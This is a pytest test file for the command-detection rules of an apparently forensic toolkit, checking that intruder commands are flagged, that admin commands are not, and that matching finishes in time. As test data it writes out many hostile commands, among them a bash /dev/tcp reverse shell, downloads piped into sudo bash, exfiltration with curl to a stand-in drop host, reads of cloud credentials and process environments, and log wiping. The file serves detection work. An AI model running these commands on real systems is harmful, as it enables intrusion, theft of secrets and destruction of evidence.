"""Suspicious commands."""

from __future__ import annotations

import time

import pytest

from forensic_toolkit.rules.command_rules import first_match, matches


@pytest.mark.parametrize(
    ("command", "name"),
    [
        ("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "Reverse shell"),
        ("curl -fsSL http://198.51.100.7/i.sh | sudo -E bash -", "Download piped into an interpreter"),
        ("curl -fsSL https://x.example/i.sh | sudo bash", "Download from a named host piped into an interpreter"),
        ("curl http://198.51.100.7/a -o /tmp/.x", "Download from a bare address"),
        ("curl -O 198.51.100.7/I.sh", "Download from a bare address"),
        ("cat /proc/1234/environ", "Environment of a process read"),
        ("tr '\\0' '\\n' < /proc/$(pidof app)/environ", "Environment of a process read"),
        ("strings /proc/1234/environ | grep KEY", "Credentials read from process memory"),
        ("sudo find . -exec /bin/bash ;", "Setup of sudo abused"),
        ("sudo awk 'BEGIN {exec \"sh\"}'", "Setup of sudo abused"),
        ("chmod u+s /bin/bash", "Set-user-id bit set"),
        ("useradd -ou 0 -g 0 evil -u 0", "Superuser account created"),
        ("echo ssh-rsa AAA >> ~/.ssh/authorized_keys", "SSH key added"),
        ("unset HISTFILE", "Recording of the shell history switched off"),
        ("ln -sf /dev/null ~/.bash_history", "Shell history disabled or erased"),
        ("rm -rf /var/log/nginx", "Logs erased"),
        ("(crontab -l; echo x) | crontab -", "Cron job written"),
        ("echo /x.so > /etc/ld.so.preload", "Dynamic linker hijacked"),
        ("./xmrig -o stratum+tcp://pool:3333", "Mining software"),
        ("cp /bin/sh /usr/local/lib/.cache/sh", "File placed under a hidden or temporary name"),
        ("curl http://169.254.169.254/latest/meta-data/iam/security-credentials/", "Cloud credentials read"),
        ("tar czf /tmp/a.tgz /etc/shadow", "Password hashes read or packed"),
        ("whoami", "User looked up"),
        ("cc -o x exploit_free.c && ./x", "Program compiled on the host"),
        ("mount --bind /proc/self /proc/4711", "Process hidden by a mount over /proc"),
        ("mkdir -p /var/lib/... && cp a /var/lib/.../a", "Name made to look like another"),
        ("curl -F f=@/srv/a.tgz https://drop.example.org/u", "Data sent to a foreign host over TLS"),
        ("curl -F f=@/srv/a.tgz http://drop.example.org/u", "Data sent to a foreign host"),
        ("find /srv -name '*.sql' -exec shred -u {} ;", "Data destroyed"),
        ("psexec.py corp/admin@10.0.0.5 whoami", "Command run on a Windows host by an intruder's tool"),
        ("systemctl enable --now systemd-cached.service", "Unit or job named like a part of the system"),
        ("bash -c 'trap \"nohup sh /opt/a.sh\" EXIT'", "Trap set for a signal"),
        ('echo \'import os; os.system("id")\' > "$SITE/x.pth"', "Python start-up hook written"),
        (
            "mdatp config real-time-protection --value disabled",
            "Protection of the host switched off by its own program",
        ),
        (
            "sudo sed -i 's/Storage=auto/Storage=none/' /etc/systemd/journald.conf",
            "Settings of the system's log changed by a command",
        ),
        ("echo 0> /var/log/secure", "A log overwritten"),
        ("awk 'BEGIN {system(\"/bin/sh &\")}'", "Shell opened out of another program"),
        ('export HISTFILE="/dev/null"', "Recording of the shell history switched off"),
        ("service syslogd stop", "Logging or security tool switched off"),
        ("service nftables stop", "Firewall opened or removed"),
        ("sudo truncate -s 0 /var/lib/docker/containers/*/*-json.log", "Logs of containers erased"),
        ("> /var/lib/docker/containers/4f1c/4f1c-json.log", "Logs of containers erased"),
        ("logger -t web -f ~/.bash_history", "Typed commands sent to the system's log"),
        ("./stratus detonate aws.discovery.x --force", "Tool for simulated attacks run"),
        ("curl -sO https://cdn.example.org/i.sh; chmod +x i.sh; ./i.sh", "Download run in the same line"),
        ("wget -q https://cdn.example.org/get -O get.py && sudo python3 get.py", "Download run in the same line"),
        ("echo $STAGE | /bin/sh", "Text piped into a shell"),
        ("sshpass -p 'x9' ssh eve@203.0.113.9 -T hostname", "Log-in with a password in the command"),
        ("grep -rl 'SQLite format 3' /home", "Databases looked for by their content"),
        ("echo 'ENABLED=no' >> /etc/default/ufw", "Settings of the firewall written by a command"),
        ("sudo passwd backup2", "Password of an account set"),
        ("sudo modprobe ntfs3", "Kernel module loaded by its name"),
        ("cat /etc/shells", "System described"),
        ("sudo find . -exec /bin/sh ;", "Shell opened out of another program"),
        ("useradd -M -N -r -s /bin/bash -c x helper7", "Account of the system made with a shell"),
        ("nohup code tunnel --accept-server-license-terms", "Tunnel of a developer's tool opened"),
        ("bash /opt/LinEnum.sh -t", "Script that looks for ways to root"),
        ("wget --post-data=msg=a https://drop.example.org/", "Data sent in a request of wget"),
        ("zip /root/d.zip /var/log/wtmp", "Folders of users or logs packed"),
        ("sudo pkill -SIGTERM ^cron$", "Service killed by its name"),
        ("whois -h 198.51.100.7 -p 8443 x > /tmp/a", "Program fetched through a tool for names or mail"),
        ("ip neighbour show", "Network shares or neighbours listed"),
        ("chmod a+w /etc/app", "Files opened for writing by all"),
        ("python3 -c \"import shutil; shutil.make_archive('/a', 'zip', '/srv')\"", "Archive made by a library"),
    ],
)
def test_commands_of_intruders(command: str, name: str) -> None:
    assert name in {rule.name for rule in matches(command)}


@pytest.mark.parametrize(
    "command",
    [
        "ls -la",
        "curl -I 203.0.113.10",
        "curl -s --head http://203.0.113.10/",
        "cat /proc/processIDhere/environ",
        "mdatp health",
        "vim /etc/systemd/journald.conf",
        "echo done >> /srv/app/build.log",
        "awk '{print $1}' access.log",
        "docker run --rm busybox:1 sh -c true",
        "find . -name '*.py' -exec grep -l x {} +",
        "adduser --system --no-create-home --shell /usr/sbin/nologin app",
        "code .",
        "wget https://example.com/a.tar.gz",
        "pkill -f celery",
        "echo done | shuf",
        "curl -O https://example.com/a.sh && less a.sh",
        "passwd",
        "modprobe br_netfilter",
        "docker logs web --tail 50",
        "logger -t deploy 'release 7 is out'",
        "vim /etc/default/ufw",
        "systemctl restart nginx",
        "tail -f /var/log/syslog",
        "vim /etc/nginx/nginx.conf",
        "chmod 755 /usr/local/bin/deploy",
        "curl https://example.com/health",
        "crontab -l",
        "eval $(ssh-agent)",
        "systemctl enable --now systemd-networkd.service",
        "systemctl start systemd-timesyncd.service",
        "cp model.pth /srv/models/",
        "cc -O2 -c a.c && cc -o a a.o",
    ],
)
def test_commands_of_administrators(command: str) -> None:
    rule = first_match(command)
    assert rule is None or rule.severity == "info"


def test_hostile_commands_are_judged_in_time() -> None:
    started = time.process_time()
    for text in (
        "a" * 100_000,
        "curl " * 20_000,
        "/tmp/" * 20_000,
        "chmod " + "-x " * 30_000,
        "rm -" + "a " * 40_000,
        "curl -o a.sh " * 8_000,
        "wget /" + "a.sh/" * 20_000,
    ):
        first_match(text)
    assert time.process_time() - started < 20, "exponential time would be hours"


@pytest.mark.parametrize(
    "command",
    [
        r"sudo find /var/www/html -type d -exec chmod g+s {} \;",
        r"sudo find /usr/share/nginx/html -type f -exec chmod 644 {} +",
        "sudo find / -name core -exec shred -n 1 {} +",
    ],
)
def test_what_find_does_for_an_administrator_is_no_abuse_of_sudo(command: str) -> None:
    """From the shell history of a public web server."""
    assert "Setup of sudo abused" not in {rule.name for rule in matches(command)}
